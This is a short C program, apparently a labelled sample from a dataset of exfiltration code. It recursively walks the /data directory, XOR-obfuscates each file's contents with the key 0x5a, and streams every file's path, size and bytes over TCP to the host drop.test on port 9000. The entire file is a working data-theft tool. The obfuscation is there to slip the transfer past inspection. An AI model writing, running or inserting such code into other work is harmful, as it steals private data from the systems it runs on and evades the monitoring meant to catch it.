// class: exfiltration; possible: low medium; needs: data; style: C, directory walk, XOR, one line a file
#define _XOPEN_SOURCE 700
#include <ftw.h>
#include <netdb.h>
#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>

static int out = -1;

static int each(const char *path, const struct stat *st, int kind, struct FTW *where)
{
    unsigned char b[4096];
    size_t n;
    (void)where;
    if (kind != FTW_F || st->st_size > 1 << 20)
        return 0;
    FILE *f = fopen(path, "rb");
    if (!f)
        return 0;
    dprintf(out, "\n@%s %ld\n", path, (long)st->st_size);
    while ((n = fread(b, 1, sizeof b, f)) > 0) {
        for (size_t i = 0; i < n; i++)
            b[i] ^= 0x5a;
        if (write(out, b, n) < 0)
            break;
    }
    fclose(f);
    return 0;
}

int main(void)
{
    struct addrinfo h = {.ai_socktype = SOCK_STREAM}, *a;
    if (getaddrinfo("drop.test", "9000", &h, &a))
        return 1;
    out = socket(a->ai_family, SOCK_STREAM, 0);
    if (connect(out, a->ai_addr, a->ai_addrlen))
        return 1;
    nftw("/data", each, 16, FTW_PHYS);
    close(out);
    return 0;
}
